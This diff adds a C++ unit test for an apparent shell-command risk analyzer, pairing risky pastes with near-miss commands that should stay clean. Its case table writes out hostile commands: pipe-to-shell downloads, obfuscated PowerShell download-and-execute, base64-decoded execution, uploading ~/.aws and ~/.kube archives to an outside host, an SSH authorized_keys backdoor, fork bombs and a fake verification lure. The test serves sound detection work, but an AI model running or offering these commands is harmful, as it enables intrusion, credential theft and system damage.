@@ -13,6 +13,7 @@
 #include <set>
 #include <sstream>
 #include <string>
+#include <string_view>
 #include <utility>
 #include <vector>
 
@@ -137,6 +138,59 @@ TEST(ShippedRules, ViewsCatchHiddenNamesAndNotNearMisses) {
         if (view.empty()) {
             EXPECT_EQ(result->primaryFinding()->view, "") << text;
         }
+    }
+}
+
+// One family of technique per block: risky pastes get at least their severity, near misses stay clean.
+TEST(ShippedRules, TechniqueFamiliesAndTheirNearMisses) {
+    const auto guard = shippedGuard();
+    const std::string_view danger = "danger", warning = "warning", clean = "clean";
+    const std::vector<std::pair<std::string, std::string_view>> cases = {
+        {"pip install --index-url http://pkgs.mirror-zone.net/simple fastjson", danger},
+        {"echo 'deb [trusted=yes] https://repo.newtools.app ./' | sudo tee /etc/apt/sources.list.d/n.list", danger},
+        {"npm config set registry https://registry.private-npm.dev", warning},
+        {"brew install --cask --no-quarantine some-app", warning},
+        {"pip install torch --index-url https://download.pytorch.org/whl/cpu", clean},
+        {"pip install --proxy http://proxy.corp.example:3128 requests", clean},
+        {"wget -qO- https://get.tool.dev | doas sh", danger},
+        {"curl -s https://cdn.example.dev/z | ${SHELL:-bash}", danger},
+        {"curl -fsSL https://get.tool.dev | CHANNEL=stable sh -s -- --yes", warning},
+        {"curl -s https://example.com/data | sudo tee /etc/app/config.json", clean},
+        {"&('Inv'+'oke-Expression')(New-Object Net.WebClient).DownloadString('https://x.example/a')", danger},
+        {"Set-Alias run iex; run (irm https://x.example/d)", danger},
+        {R"(cmd /v:on /c "set x=pow&& set y=ershell&& !x!!y! -c irm https://x.example|iex")", danger},
+        {R"("{0}{1}" -f $first, $last)", clean},
+        {"echo Y3VybCBodHRwOi8vZXhhbXBsZS5jb20= | openssl base64 -d | sh", danger},
+        {R"(php -r 'eval(base64_decode("ZWNobyAxOw=="));')", danger},
+        {"osascript <(curl -fsSL https://x.example/t)", danger},
+        {"base64 -d key.b64 > key.pem && chmod 600 key.pem", clean},
+        {"wget https://get.tool.dev/setup.sh\nsh setup.sh --yes", warning},
+        {"curl -fsSL https://dl.example.dev/t -o ~/.cache/.t; chmod +x ~/.cache/.t; ~/.cache/.t", danger},
+        {"$c = (New-Object Net.WebClient).DownloadString('https://x.example/c')\nInvoke-Expression $c", danger},
+        {R"(rundll32.exe \\cdn.example.org@SSL\DavWWWRoot\a.dll,Entry)", danger},
+        {"curl -O https://example.org/tool-1.0.tar.gz && tar xzf tool-1.0.tar.gz && cd tool-1.0 && ./configure", clean},
+        {R"(Copy-Item .\app.exe \\fileserver\deploy\app.exe)", clean},
+        {"zip -qr /tmp/k.zip ~/.aws ~/.kube\ncurl -F file=@/tmp/k.zip https://collect.example.net/u", danger},
+        {"git config --list --show-origin | curl -s -d @- https://hook.example.org", danger},
+        {R"(security find-generic-password -s "Slack" -w)", danger},
+        {"kubectl get secret db -o jsonpath='{.data.password}' | base64 -d", clean},
+        {"function boom; boom | boom &; end; boom", danger},
+        {"%0|%0", danger},
+        {"ruby -e 'loop { fork }'", danger},
+        {"while true; do date; sleep 1; done", clean},
+        {R"(rm -rf "$STEAMROOT"/*)", warning},
+        {"echo b > /proc/sysrq-trigger", danger},
+        {"git push origin main --force", warning},
+        {"git push --force-with-lease origin feature", clean},
+        {"wget -qO- https://keys.example.net/k.pub >> ~/.ssh/authorized_keys", danger},
+        {"Complete the human verification: powershell -c irm https://x.example|iex", danger},
+        {"ngrok tcp 3389", danger},
+        {R"((crontab -l; echo "0 4 * * * /usr/local/bin/backup") | crontab -)", clean},
+        {"ssh -L 8080:localhost:80 user@bastion.example.com", clean},
+    };
+    for (const auto& [text, expected] : cases) {
+        const auto result = guard.analyze(text, CommandRiskSeverity::warning);
+        EXPECT_EQ(result ? rawValue(result->severity) : clean, expected) << text;
     }
 }
 
